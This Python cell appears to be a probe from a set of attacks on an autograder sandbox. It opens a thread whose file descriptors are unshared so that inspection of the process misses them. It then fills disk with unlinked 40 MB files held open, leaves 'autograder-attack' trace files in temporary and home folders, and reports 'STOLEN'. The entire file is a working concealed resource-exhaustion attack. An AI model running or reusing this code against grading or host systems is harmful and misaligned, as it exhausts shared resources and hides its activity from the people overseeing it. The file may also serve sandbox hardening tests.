"""Holds removed files open in a thread that has descriptors of its own, where a look at the process does not see them.

family: bombs
start: solved
"""

# %% first
_done = []


def _achieved(what, stem="removed_files_of_a_thread"):
    """Leave a trace of a success, outside if that is possible."""
    import os

    for folder in ("/tmp", "/var/tmp", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "autograder-attack-" + stem), "a") as file:
                file.write(str(what)[:2000] + "\n")
        except Exception:
            pass
    _done.append(str(what)[:200])


def _report():
    """Say it in the report too: the cell error is carried out."""
    if _done:
        raise AssertionError("STOLEN: " + "; ".join(_done[:5]))


import ctypes
import os
import threading
import time

_kept = []


def _hoard():
    ctypes.CDLL(None).close_range(100_000, 100_000, 2)  # CLOSE_RANGE_UNSHARE
    try:
        for _ in range(60):
            _fd = os.open("held", os.O_RDWR | os.O_CREAT)
            os.unlink("held")
            os.posix_fallocate(_fd, 0, 40 * 2**20)
            _kept.append(_fd)
            time.sleep(0.05)
        time.sleep(2)
    except OSError:
        pass


_hoarder = threading.Thread(target=_hoard)
_hoarder.start()
_hoarder.join()
if len(_kept) > 40:
    _achieved(f"{len(_kept)} removed files of 40 MB")
_report()
